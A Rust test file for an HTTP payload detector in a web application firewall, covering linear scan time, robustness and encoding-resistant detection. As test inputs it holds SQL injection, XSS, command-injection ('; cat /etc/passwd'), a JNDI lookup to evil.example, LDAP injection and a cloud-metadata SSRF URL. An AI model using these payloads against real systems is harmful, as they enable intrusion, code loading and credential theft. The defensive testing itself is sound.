//! Laws of the detection: linear work, no panic, no difference by how a body is cut, encodings seen through.

use proptest::prelude::*;
use ringwall_app_guard::payload::{
    Category, Detector, DetectorSettings, EXCERPT_CHARACTERS_MAX, Finding, HELD_BYTES_MAX, Place,
    WINDOW_BYTES,
};
use std::sync::LazyLock;

static DETECTOR: LazyLock<Detector> =
    LazyLock::new(|| Detector::new(&DetectorSettings::default()).unwrap());

fn scan(place: Place<'_>, value: &[u8]) -> Vec<Finding> {
    let mut found = Vec::new();
    DETECTOR.scan(place, value, &mut found);
    found
}

/// Twice the input takes at most about twice the steps, for what grammars nest and filters repeat.
#[test]
fn work_is_linear_for_adversarial_repetition() {
    let patterns: [&[u8]; 96] = [
        b"(",
        b"((((",
        b"))))",
        b"%25%25",
        b"%2525",
        b"' or ' or",
        b"<<<<",
        b"<a ",
        b"<a \"",
        b"<a '<a \"",
        b"/*/*",
        b"/*",
        b"*/",
        b"${",
        b"${${",
        b"${a:-",
        b"}",
        b"{{",
        b"{{7*",
        b"{%",
        b"\"",
        b"'",
        b"`",
        b"``",
        b"`id`",
        b";id",
        b"|",
        b"&",
        b"&#",
        b"&amp;",
        b"&amp;amp;",
        b"\\",
        b"\\u0027",
        b"\\\\",
        b"..",
        b"../",
        b"....//",
        b"..;/",
        b"://",
        b"http://",
        b"http://a@",
        b"http://127.1 ",
        b"$ne",
        b"[$ne]",
        b"--",
        b"#",
        b"1,",
        b"select ",
        b"union select 1,",
        b"\r\n",
        b"\r\na: b",
        b"on",
        b"onx=",
        b"javascript:",
        b"j\t",
        b"O:1:\"",
        b"//",
        b"//localhost:1/",
        b"http://a@127.0.0.1@",
        b"http://#@",
        b"[#",
        b"![]+[]",
        b"call`${",
        b"<?import ",
        b"+adw-a",
        b"x)!(a<=",
        b"\\r\\na-b: c",
        b"nikto",
        b"/.a/b.c",
        b"/.git/",
        b"data:;base64,",
        b"<a b='",
        b"\\'",
        b"\\\"",
        b"'a'::int <@ ",
        b"a=b;$a",
        b";$a",
        b"for %a in (",
        b"if exist a ",
        b"[a]",
        b"f(){ f|",
        b"c$()",
        b"1 or ",
        b"1^ascii(",
        b")(",
        b"$a(",
        b"${'",
        b"(~\x8c",
        b"\\2a",
        b"\n$1",
        b"__",
        b"<%",
        b"<b>c",
        b"-- a\n",
        b"#\n",
        b"ascii(mid(",
    ];
    for pattern in patterns {
        for place in
            [Place::QueryParameter("q"), Place::BodyField("b"), Place::Path, Place::Header("x")]
        {
            let steps = |length: usize| {
                let value = pattern.repeat(length / pattern.len());
                DETECTOR.scan_counting(place, &value, &mut Vec::new())
            };
            let (once, twice) = (steps(8_192), steps(16_384));
            let text = String::from_utf8_lossy(pattern);
            assert!(twice <= once * 5 / 2 + 4_096, "{text:?} at {place}: {once}, then {twice}");
            assert!(twice <= 16_384 * 400, "{text:?} at {place}: {twice} steps");
        }
    }
}

/// The steps that are counted are those that are taken: time grows as they do.
#[test]
fn time_is_linear_for_base64_in_base64() {
    let mut value = b"' or 1=1 -- ".repeat(100);
    let mut last = 0;
    for round in 0..5 {
        let steps = DETECTOR.scan_counting(Place::QueryParameter("q"), &value, &mut Vec::new());
        assert!(steps <= value.len() as u64 * 400, "round {round}: {steps} steps");
        assert!(round == 0 || steps <= last * 3, "round {round}: {last}, then {steps}");
        last = steps;
        value = base64(&value);
    }
}

fn base64(bytes: &[u8]) -> Vec<u8> {
    const DIGITS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = Vec::new();
    for chunk in bytes.chunks(3) {
        let bits = chunk.iter().fold(0u32, |sum, &byte| (sum << 8) | u32::from(byte))
            << (8 * (3 - chunk.len()));
        for place in 0..=chunk.len() {
            out.extend(DIGITS.get((bits >> (18 - 6 * place)) as usize & 63));
        }
    }
    out
}

const ATTACKS: [(&str, Category); 8] = [
    ("1' OR '1'='1", Category::SqlInjection),
    ("1 UNION SELECT username,password FROM users", Category::SqlInjection),
    ("<script>alert(1)</script>", Category::CrossSiteScripting),
    ("<img src=x onerror=alert(1)>", Category::CrossSiteScripting),
    ("; cat /etc/passwd", Category::CommandInjection),
    ("{{7*7}}", Category::Template),
    ("${jndi:ldap://evil.example/a}", Category::CodeInjection),
    ("*)(uid=*))(|(uid=*", Category::Ldap),
];

fn encoded(value: &str, choices: &[u8]) -> String {
    let mut out = String::new();
    for (index, byte) in value.bytes().enumerate() {
        match choices.get(index % choices.len().max(1)).copied().unwrap_or(0) % 4 {
            0 => out.push_str(&format!("%{byte:02x}")),
            1 => out.push_str(&format!("%{byte:02X}")),
            2 if byte == b'%' => out.push_str("%25"),
            _ => out.push(char::from(byte)),
        }
    }
    out
}

proptest! {
    #[test]
    fn no_bytes_panic_and_excerpts_are_short(value in proptest::collection::vec(any::<u8>(), 0..600)) {
        for place in [Place::QueryParameter("file"), Place::Path, Place::Header("cookie"), Place::BodyName, Place::FileName("f"), Place::FileContent("f"), Place::Body] {
            for finding in scan(place, &value) {
                prop_assert!(finding.excerpt.chars().count() <= EXCERPT_CHARACTERS_MAX);
                prop_assert!(!finding.excerpt.chars().any(char::is_control));
            }
        }
    }

    #[test]
    fn no_text_of_attack_characters_panics(value in "[-'\"`<>(){}$#%;|&=/*\\\\.:@a-fnorx0-7 \r\n\u{ff1c}]{0,200}") {
        for place in [Place::QueryParameter("q"), Place::Path, Place::BodyField("b"), Place::FileName("f")] {
            scan(place, value.as_bytes());
        }
    }

    #[test]
    fn an_encoded_attack_stays_found(attack in 0..ATTACKS.len(), choices in proptest::collection::vec(any::<u8>(), 1..40), twice in any::<bool>()) {
        let (text, category) = ATTACKS[attack];
        let mut value = encoded(text, &choices);
        if twice {
            value = value.replace('%', "%25");
        }
        let found = scan(Place::QueryParameter("q"), value.as_bytes());
        prop_assert!(found.iter().any(|finding| finding.category == category), "{value}");
    }

    #[test]
    fn how_a_body_is_cut_makes_no_difference(
        parts in proptest::collection::vec(
            prop_oneof![
                Just("{\"a\":".to_owned()), Just("\"' OR 1=1--\"".to_owned()), Just("}".to_owned()), Just(",".to_owned()), Just("[".to_owned()),
                Just("\"<script>alert(1)</script>\"".to_owned()), Just("\"\\u003csvg onload=alert(1)\\u003e\"".to_owned()), Just("&x=".to_owned()), Just("%27+or+1%3d1--".to_owned()),
                Just("\r\n--b\r\n".to_owned()), Just("Content-Disposition: form-data; name=\"f\"; filename=\"x.php\"\r\n\r\n".to_owned()), Just("Content-Disposition: form-data; name=\"g\"\r\n\r\n".to_owned()),
                Just("<a b='/etc/passwd' c=\"".to_owned()), Just("><![CDATA[".to_owned()), Just("]]>".to_owned()),
                Just("; cat /etc/passwd".to_owned()), "[ -~]{0,12}", Just("\"__proto__\":{".to_owned()), Just("x".repeat(WINDOW_BYTES - 9)),
            ], 1..14),
        cuts in proptest::collection::vec(1usize..5000, 1..12),
        kind in 0usize..6,
    ) {
        let body = parts.concat();
        let content_type = [Some("application/json"), Some("application/x-www-form-urlencoded"), Some("multipart/form-data; boundary=b"), Some("text/plain"), Some("text/xml"), None][kind];
        let mut whole = Vec::new();
        let mut one = DETECTOR.body(content_type);
        one.feed(body.as_bytes(), &mut whole);
        one.finish(&mut whole);
        let mut pieces = Vec::new();
        let mut other = DETECTOR.body(content_type);
        let mut rest = body.as_bytes();
        for cut in cuts.iter().cycle() {
            if rest.is_empty() { break; }
            let (now, later) = rest.split_at((*cut).min(rest.len()));
            other.feed(now, &mut pieces);
            prop_assert!(other.held_bytes() <= HELD_BYTES_MAX, "{} bytes held", other.held_bytes());
            rest = later;
        }
        other.finish(&mut pieces);
        prop_assert_eq!(whole, pieces);
    }
}

/// Flaw 29 of the contract: what stands behind 262,144 bytes of a body, or 256 parameters, was not seen.
#[test]
fn an_attack_behind_a_long_body_is_found_in_bounded_memory() {
    let filler = "lorem ipsum dolor sit amet ".repeat(40_000);
    let attack = "1' OR '1'='1";
    for (content_type, start, end) in [
        ("text/plain", String::new(), format!(" {attack}")),
        ("application/json", "{\"a\":\"".to_owned(), format!("\",\"b\":\"{attack}\"}}")),
        ("application/json", "{\"a\":\"".to_owned(), " <script>alert(1)</script>\"}".to_owned()),
        ("application/x-www-form-urlencoded", "a=".to_owned(), format!("&b={attack}")),
        (
            "multipart/form-data; boundary=b",
            "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n".to_owned(),
            format!(
                "\r\n--b\r\nContent-Disposition: form-data; name=\"b\"\r\n\r\n{attack}\r\n--b--\r\n"
            ),
        ),
    ] {
        let body = format!("{start}{filler}{end}");
        let mut scan = DETECTOR.body(Some(content_type));
        let mut found = Vec::new();
        for chunk in body.as_bytes().chunks(1500) {
            scan.feed(chunk, &mut found);
            assert!(scan.held_bytes() <= HELD_BYTES_MAX, "{} bytes held", scan.held_bytes());
        }
        scan.finish(&mut found);
        // Prose in one value before it makes of a quote an apostrophe: the text body has none before.
        assert!(!found.is_empty(), "{content_type}: {end}");
    }
    let parameters: String = (0..2000).map(|index| format!("p{index}=v&")).collect();
    let mut found = Vec::new();
    DETECTOR.scan_request("/", Some(&format!("{parameters}x={attack}")), [], &mut found);
    assert_eq!(found[0].place, "query_param:x");
}

/// Depth is bounded in memory, not in what is seen.
#[test]
fn deep_json_is_walked_to_its_end() {
    let depth = 100_000;
    let body =
        format!("{}\"<script>alert(1)</script>\"{}", "{\"a\":[".repeat(depth), "]}".repeat(depth));
    let mut scan = DETECTOR.body(Some("application/json"));
    let mut found = Vec::new();
    for chunk in body.as_bytes().chunks(4096) {
        scan.feed(chunk, &mut found);
        assert!(scan.held_bytes() <= HELD_BYTES_MAX);
    }
    scan.finish(&mut found);
    assert_eq!(found[0].category, Category::CrossSiteScripting);
}

#[test]
fn findings_say_where_and_why() {
    let mut found = Vec::new();
    let mut body = DETECTOR.body(Some("application/json"));
    body.feed(br#"{"user":{"names":["1' OR '1'='1"]}}"#, &mut found);
    body.finish(&mut found);
    let finding = &found[0];
    assert_eq!(finding.place, "request_body:user.names");
    assert_eq!(finding.category.name(), "sqli");
    assert_eq!(finding.excerpt, "1' OR '1'='1");
    assert!(!finding.explanation.is_empty() && !finding.pattern.is_empty());
}

#[test]
fn custom_patterns_are_found_in_decoded_views() {
    let settings = DetectorSettings {
        custom_patterns: vec!["ab{2,3}c".to_owned(), r"forbidden\s+word".to_owned()],
        ..DetectorSettings::default()
    };
    let detector = Detector::new(&settings).unwrap();
    let mut found = Vec::new();
    detector.scan(Place::QueryParameter("q"), b"x%61bbc", &mut found);
    assert_eq!((found[0].category, found[0].pattern.as_ref()), (Category::Custom, "ab{2,3}c"));
    found.clear();
    detector.scan(Place::QueryParameter("q"), b"Forbidden  Word", &mut found);
    assert_eq!(found[0].pattern, r"forbidden\s+word");
    found.clear();
    detector.scan(Place::QueryParameter("q"), b"abc", &mut found);
    assert!(found.is_empty());
}

/// Section 5 of the contract: which categories are looked for where.
#[test]
fn places_decide_which_categories_apply() {
    let names = |place, value: &str| -> Vec<&'static str> {
        scan(place, value.as_bytes()).iter().map(|finding| finding.category.name()).collect()
    };
    assert!(!names(Place::Header("x-path"), "/.git/config").contains(&"sensitive_file"));
    assert!(!names(Place::Path, "/x;cat /etc/passwd").contains(&"cmd_injection"));
    assert_eq!(names(Place::Header("x-url"), "http://169.254.169.254/latest"), ["ssrf"]);
    for header in ["Host", "Origin", "X-Forwarded-For", "X-Forwarded-Host", "Forwarded", "Referer"]
    {
        assert!(
            names(Place::Header(header), "http://169.254.169.254/latest").is_empty(),
            "{header}"
        );
    }
}
